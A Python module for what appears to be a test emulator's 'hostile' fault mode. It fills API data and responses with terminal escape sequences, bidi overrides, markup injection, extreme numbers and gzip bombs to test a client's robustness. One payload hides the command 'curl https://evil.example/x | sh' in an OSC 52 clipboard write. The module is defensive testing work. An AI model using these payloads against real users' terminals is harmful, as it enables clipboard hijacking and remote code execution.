"""The ``hostile`` fault: a service whose every string is an attack on the client's terminal.

With ``hostile`` on, the data is replaced by a hostile copy of itself (same seed, same
shape): every string value carries one of :data:`PAYLOADS` — terminal control sequences
(OSC 52 clipboard writes, OSC 0 titles, OSC 8 links, CSI, DCS, APC, C1 controls), bidi
overrides, Rich/Textual markup, zero-width characters, NUL, line breaks — and every
object gains keys that are payloads themselves. Lone surrogates are written as the JSON
escape ``\\ud800`` (a strict decoder refuses the whole body for one; this client reads
each as U+FFFD). Each list also holds objects whose ids are ``.``, ``..``, empty, ``%2F``,
``a/b``, ``?``/``#``/``%`` and line breaks; numbers sit at their extremes (1.7e308,
5e-324, 30-digit integers, negatives); one item's description is 1 MB long.

Tokens are issued with lifetimes at their extremes, in turn: ``exp`` of 1.7e308 or of
500 digits, ``expiresIn`` of ``"1e999"``, ``"NaN"``, -5 or 1.7e308 (each token still works
against this emulator). A share (``rate``) of answers is replaced by a hostile one: a
redirect whose ``Location`` holds escapes, a 304, an error whose JSON body is a byte over
the client's 64 KB error cap, a gzip bomb, a 429 whose ``Retry-After`` is ``inf``. Every
answer's ``Content-Type`` carries escapes and markup (as its header value allows). All of
it is drawn from the seed: the same seed gives the same attack.
"""

from __future__ import annotations

import base64
import copy
import gzip
import random
from typing import Any

import msgspec
from starlette.responses import Response

from ..api.transport import ERROR_BODY_CAP
from .seed import SeedData

SURROGATE = "\U000f0000"
"""Stands for a lone surrogate in the data; written as the JSON escape ``\\ud800``."""
_SURROGATE_UTF8 = SURROGATE.encode()

_CLIPBOARD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode()
PAYLOADS: tuple[str, ...] = (
    f"\x1b]52;c;{_CLIPBOARD}\x07",  # OSC 52: write the clipboard
    "\x1b]0;pwned title\x07",  # OSC 0: window title
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[31;1mred\x1b[0m",  # CSI: clear screen, colours
    "\x1bP1$r0m\x1b\\",  # DCS
    "\x1b_apc payload\x1b\\",  # APC
    "\x1b^pm\x1b\\\x1bXsos\x1b\\",  # PM and SOS
    "\x9b31m\x9d0;c1 title\x9c\x90dcs\x9c",  # C1 controls: CSI, OSC, ST, DCS
    "\u202eesrever\u202c \u2066isolate\u2069",  # bidi overrides and isolates
    "[@click=app.quit]x[/]",  # Textual action markup
    "a [/] b",  # a closing tag that closes nothing
    "[b]bold[/b] [link=https://evil.example]l[/link]",  # Rich markup
    SURROGATE,  # lone surrogate, as \ud800 in the JSON
    "zero\u200bwidth\u200d\ufeff",  # zero-width characters
    "nul\x00byte",  # NUL
    "line\nbreak\rreturn\ttab\x08\x7f",  # C0 controls and DEL
)

DATA_PAYLOADS = PAYLOADS
"""The payloads of the data: all of them."""

HEADER_PAYLOADS = tuple(
    p for p in DATA_PAYLOADS if all(ord(c) < 256 for c in p) and not any(c in p for c in "\r\n\x00")
)
"""The payloads a header value can carry (Latin-1, no line break, no NUL)."""

HOSTILE_IDS: tuple[str, ...] = (
    ".",
    "..",
    "",
    "%2F",
    "a/b",
    "a?b=c#d%",
    "line\nbreak",
    f"id{PAYLOADS[0]}",
)
"""Ids of the extra objects each list holds, besides the tainted ids of the others."""

EXTREME_NUMBERS: tuple[Any, ...] = (1.7e308, 5e-324, -1.0, 0, 10**30, -(10**30), 1e21)

LONG_TEXT = "long " * (1024 * 1024 // 5)
"""A 1 MB string, in one item's description."""


HOSTILE_CONTENT_TYPE = 'application/json; x="\x1b]0;ct title\x07[@click=app.quit]x[/]\x9b31m"'
"""A Content-Type header value full of escapes and markup, as h11 lets a header carry."""

HOSTILE_LOCATION = "https://evil\x1b]52;c;ZXZpbA==\x07.example[@click=app.quit]x[/]/next"


def payload(rng: random.Random, choices: tuple[str, ...] = DATA_PAYLOADS) -> str:
    """One of ``choices`` (:data:`DATA_PAYLOADS`)."""
    return rng.choice(choices)


def taint(value: Any, rng: random.Random, *, keys: bool = True) -> Any:
    """``value`` with a payload in every string and, for objects, extra payload keys."""
    if isinstance(value, str):
        mark = payload(rng)
        where = rng.randrange(3)
        return mark + value if where == 0 else value + mark if where == 1 else value[:3] + mark
    if isinstance(value, list):
        return [taint(v, rng, keys=keys) for v in value]
    if isinstance(value, dict):
        out = {k: taint(v, rng, keys=keys) for k, v in value.items()}
        if keys:
            out[f"note{payload(rng)}"] = payload(rng)
        return out
    return value


def hostile_data(data: SeedData, seed: int) -> SeedData:
    """A hostile copy of ``data``: tainted strings, payload keys, hostile ids, extreme numbers."""
    rng = random.Random(f"tokensales-emulator-hostile:{seed}")
    # The same payload keys on every asset, so that they become columns of the table.
    asset_keys = [f"col{p}" for p in PAYLOADS[:4]]
    stores = []
    for store, kind in (
        (data.webhooks, "webhook"),
        (data.items, "item"),
        (data.assets, "asset"),
        (data.collections, "collection"),
    ):
        objects = [taint(copy.deepcopy(obj), rng) for obj in store.values()]
        if objects:
            template = objects[0]
            for hostile_id in HOSTILE_IDS:
                extra = copy.deepcopy(template)
                extra["id"] = hostile_id
                objects.append(extra)
        for index, obj in enumerate(objects):
            if kind == "item":
                obj["price"] = EXTREME_NUMBERS[index % len(EXTREME_NUMBERS)]
            if kind == "asset":
                obj["decimals"] = EXTREME_NUMBERS[index % len(EXTREME_NUMBERS)]
                for key in asset_keys:
                    obj[key] = payload(rng)
        if kind == "item" and objects:
            objects[0]["description"] = LONG_TEXT + payload(rng)
        stores.append({obj["id"]: obj for obj in objects})
    webhooks, items, assets, collections = stores
    return SeedData(webhooks=webhooks, items=items, assets=assets, collections=collections)


def token_response(number: int, sign: Any, now: int) -> dict[str, Any]:
    """The ``number``-th token response: a working token with an extreme lifetime.

    ``sign`` turns claims into a JWT this emulator accepts.
    """
    variant = number % 5
    claims: dict[str, Any] = {"sub": "hostile", "jti": f"h{number}"}
    extra: dict[str, Any] = {}
    if variant == 0:
        claims.update(iat=now, exp=msgspec.Raw(b"1.7e308"))
        extra["expiresIn"] = "1e999"
    elif variant == 1:
        claims.update(iat=now, exp=10**500)
        extra["expiresIn"] = -5
    elif variant == 2:
        claims.update(exp=10**500)  # no iat: only the wall clock to go by
        extra["expiresIn"] = "NaN"
    elif variant == 3:
        claims.update(exp=msgspec.Raw(b"1.7e308"))
        extra["expiresIn"] = 1.7e308
    else:
        claims.update(iat=now, exp=now + 3600)
        extra["expiresIn"] = msgspec.Raw(b"1" + b"0" * 500)
    rng = random.Random(number)
    return {
        "accessToken": sign(claims),
        **extra,
        "message": payload(rng),
        f"note{payload(rng)}": payload(rng),
    }


def encode(body: bytes) -> bytes:
    """``body`` with each :data:`SURROGATE` written as the JSON escape of a lone surrogate."""
    return body.replace(_SURROGATE_UTF8, b"\\ud800") if _SURROGATE_UTF8 in body else body


def rewrite(response: Response, rng: random.Random, *, spoil: bool) -> Response:
    """``response`` made hostile: its Content-Type, its error body, or (``spoil``) all of it."""
    headers = {k: v for k, v in response.headers.items() if k not in ("content-length",)}
    headers["content-type"] = HOSTILE_CONTENT_TYPE
    headers["x-hostile"] = payload(rng, HEADER_PAYLOADS)
    status, body = response.status_code, bytes(response.body)
    if spoil:
        kind = rng.randrange(5)
        if kind == 0:
            return Response(status_code=302, headers={"location": HOSTILE_LOCATION, **headers})
        if kind == 1:
            return Response(status_code=304, headers={"x-hostile": payload(rng, HEADER_PAYLOADS)})
        if kind == 2:
            headers["retry-after"] = rng.choice(("inf", "1e999", "-5", "NaN", "9" * 500))
            return Response(_error_body(rng, "slow down"), 429, headers=headers)
        if kind == 3:
            headers["content-encoding"] = "gzip"
            bomb = gzip.compress(bytes(ERROR_BODY_CAP * 64), 9)
            return Response(bomb, 503, headers=headers)
        return Response(_error_body(rng, "internal error"), 500, headers=headers)
    if status >= 400:
        try:
            decoded = msgspec.json.decode(body) if body else {}
        except msgspec.DecodeError:
            decoded = {}
        message = decoded.get("message", "") if isinstance(decoded, dict) else ""
        body = _error_body(rng, str(message))
    return Response(encode(body), status, headers=headers)


def _error_body(rng: random.Random, message: str) -> bytes:
    """A JSON error body of exactly one byte over :data:`ERROR_BODY_CAP`."""
    body = {
        "message": message + payload(rng),
        "field": payload(rng),
        "errors": [{"field": payload(rng), "message": payload(rng, PAYLOADS)} for _ in range(3)],
        f"key{payload(rng)}": SURROGATE,
        "padding": "",
    }
    size = len(encode(msgspec.json.encode(body)))
    body["padding"] = "p" * max(0, ERROR_BODY_CAP + 1 - size)
    return encode(msgspec.json.encode(body))
